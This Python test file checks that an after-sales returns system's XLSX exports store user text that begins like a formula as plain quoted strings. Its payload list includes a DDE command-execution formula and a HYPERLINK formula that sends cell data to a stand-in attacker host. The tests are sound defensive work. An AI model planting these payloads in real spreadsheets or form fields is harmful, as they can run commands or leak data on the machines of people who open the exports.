"""Formula injection (issue 19): text typed by a user is written as text in every XLSX, never as a formula."""

from __future__ import annotations

import io

import pytest
from openpyxl import load_workbook

from aftersales.exports.xlsx import XlsxColumn, XlsxSheet, write_workbook
from tests.cases.test_api import create_body

ATTACKS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "＝1+1",
]


@pytest.mark.parametrize("deterministic", [True, False])
def test_text_starting_like_a_formula_is_stored_as_text(deterministic):
    # Given cells whose text would start a formula, in the title, the header and the data
    sheet = XlsxSheet(
        title="t",
        columns=[XlsxColumn("=HEADER()")],
        rows=[[value] for value in ATTACKS] + [["plain"], [12]],
        title_rows=[["=TITLE()"]],
    )
    data = write_workbook([sheet], deterministic=deterministic)
    # When the workbook is read back
    cells = [row[0] for row in load_workbook(io.BytesIO(data)).active.iter_rows()]
    # Then every one is a string cell with the very text typed, none a formula
    assert [(cell.value, cell.data_type) for cell in cells[:2]] == [("=TITLE()", "s"), ("=HEADER()", "s")]
    assert [(cell.value, cell.data_type) for cell in cells[2 : 2 + len(ATTACKS)]] == [(v, "s") for v in ATTACKS]
    # and those a spreadsheet would read as a formula on editing carry Excel's quote prefix
    assert all(cell.quotePrefix for cell in cells[2 : 2 + len(ATTACKS)])
    # while ordinary values are what they were: text, a number
    assert [(cell.value, cell.data_type) for cell in cells[-2:]] == [("plain", "s"), (12, "n")]
    assert not cells[-2].quotePrefix
    # And nothing in the file is a formula element
    import zipfile

    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml


@pytest.mark.django_db
def test_the_returns_export_writes_a_typed_formula_as_text(api_as, browser_as):
    # Given store1 logs a Return whose receipt number, colour and size are formulas
    body = create_body(receipt_no="=cmd|' /C calc'!A0", color="=1+1", size="@SUM(1)")
    assert api_as("store1").post("/api/v1/returns/", body, format="json").status_code == 201
    # When anyone exports the returns list to Excel
    response = browser_as("tech1").get("/returns/", {"export": "xlsx"})
    assert response.status_code == 200
    rows = list(load_workbook(io.BytesIO(response.content)).active.iter_rows())
    header = [cell.value for cell in rows[0]]
    row = next(r for r in rows[1:] if r[header.index("小票号")].value == "=cmd|' /C calc'!A0")
    # Then the three cells are the typed text, stored as text
    for name, typed in (("小票号", "=cmd|' /C calc'!A0"), ("颜色", "=1+1"), ("尺码", "@SUM(1)")):
        cell = row[header.index(name)]
        assert (cell.value, cell.data_type) == (typed, "s")
